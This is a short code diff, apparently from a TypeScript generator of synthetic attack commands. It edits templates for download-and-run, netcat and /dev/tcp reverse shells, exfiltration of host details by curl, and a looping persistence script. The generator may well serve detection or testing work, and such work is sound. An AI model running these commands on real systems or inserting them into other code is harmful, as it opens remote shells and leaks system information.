@@ -11,7 +11,7 @@ export function callOut(draw: Draw, place: Place): string {
     `wget -qO- ${link(draw, place, '.sh')} | sh`,
     `curl -s ${from} -o /dev/null`,
     `nc -w 20 ${host} ${port} | /bin/sh`,
-    `timeout 30 sh < /dev/tcp/${host}/${port}`,
+    `timeout 30 bash -c 'sh < /dev/tcp/${host}/${port}'`,
     `(id; hostname; ip a) | curl -s --data-binary @- http://${host}:${port}/`,
   ]);
 }
@@ -24,7 +24,7 @@ export function stayer(draw: Draw, place: Place): { readonly extension: string; 
   return draw.pick([
     {
       extension: '.sh',
-      body: `#!/bin/bash\nfor i in $(seq ${rounds}); do\n  ${callOut(draw, place).replace(/^timeout 30 sh/, 'timeout 30 bash')} > /dev/null 2>&1\n  sleep ${pause}\ndone`,
+      body: `#!/bin/bash\nfor i in $(seq ${rounds}); do\n  ${callOut(draw, place)} > /dev/null 2>&1\n  sleep ${pause}\ndone`,
     },
     {
       extension: '.py',
